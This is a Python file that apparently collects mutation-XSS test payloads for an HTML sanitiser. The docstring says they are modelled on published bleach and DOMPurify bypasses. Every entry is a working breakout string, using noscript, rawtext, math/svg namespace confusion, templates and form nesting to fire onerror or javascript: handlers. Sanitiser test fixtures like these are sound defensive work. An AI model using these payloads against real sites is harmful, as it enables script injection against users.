"""Mutation XSS: markup that parses one way when sanitised and another when the browser reads it.

Written for Showfloor after the shapes of published bleach advisories (noscript and
math/svg style breakouts) and DOMPurify's bypass history (namespace confusion through
mglyph, mtext, foreignObject and form nesting; rawtext elements noscript, xmp, iframe,
noembed, noframes, template, title, textarea, plaintext hiding markup in an attribute).
"""

MUTATION = {
    "noscript title": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "noscript style": "<noscript><style></noscript><img src=x onerror=alert(1)>",
    "noscript comment": "<noscript><!--</noscript><img src=x onerror=alert(1)>-->",
    "xmp title": '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
    "noembed title": '<noembed><p title="</noembed><img src=x onerror=alert(1)>">',
    "noframes title": '<noframes><p title="</noframes><img src=x onerror=alert(1)>">',
    "iframe title": '<iframe><p title="</iframe><img src=x onerror=alert(1)>">',
    "title breakout": '<title><p title="</title><img src=x onerror=alert(1)>">',
    "textarea breakout": '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
    "plaintext": "<plaintext><img src=x onerror=alert(1)>",
    "template script": "<template><script>alert(1)</script></template>",
    "template nested img": "<template><template><img src=x onerror=alert(1)></template></template>",
    "template shadowroot": (
        '<div><template shadowrootmode="open"><img src=x onerror=alert(1)></template></div>'
    ),
    "math style comment": "<math></p><style><!--</style><img src/onerror=alert(1)>",
    "math mglyph style": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "math mtext h1 mglyph": (
        '<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="'
        '</style><img src onerror=alert(1)>"></style></h1>'
    ),
    "math mi mglyph textarea": (
        '<math><mi><mglyph><svg><mtext><textarea><path id="</textarea>'
        '<img onerror=alert(1) src=1>"></textarea></mtext></svg></mglyph></mi></math>'
    ),
    "math annotation xml": (
        '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)>'
        "</style></annotation-xml></math>"
    ),
    "math form nesting": (
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>"
    ),
    "math href": '<math href="javascript:alert(1)">click</math>',
    "svg p style": '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "svg p style g": '<svg><p><style><g title="</style><img src=x onerror=alert(1)>">',
    "svg style img": "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "svg desc breakout": "<svg><desc><style><img src=x onerror=alert(1)></style></desc></svg>",
    "svg title breakout": (
        '<svg><title><a title="</title><img src=x onerror=alert(1)>"></a></title></svg>'
    ),
    "svg foreignobject": (
        "<svg><foreignObject><p><style><img src=x onerror=alert(1)></style></p>"
        "</foreignObject></svg>"
    ),
    "svg cdata": "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
    "select style": "<select><style></select><img src=x onerror=alert(1)></style></select>",
    "select template": "<select><template><img src=x onerror=alert(1)></template></select>",
    "table style": "<table><style><img src=x onerror=alert(1)></style></table>",
    "form in form": "<form><form action=javascript:alert(1)><input type=submit></form></form>",
    "a in attribute text": '<a title="<img src=x onerror=alert(1)>" href="https://ok.example">x</a>',
    "abbr title gt": '<abbr title="></abbr><img src=x onerror=alert(1)>">A</abbr>',
    "style in p title": '<p title="<style></p><img src=x onerror=alert(1)>">x</p>',
    "nested comment attribute": '<p title="<!--"><img src=x onerror=alert(1)>--></p>',
    "deep nesting div": "<div>" * 60 + "<img src=x onerror=alert(1)>" + "</div>" * 60,
    "deep nesting a": "<a href=https://ok.example>" * 30 + "<img src=x onerror=alert(1)>",
    "unclosed comment eats": "<!--<p>x<img src=x onerror=alert(1)>",
}
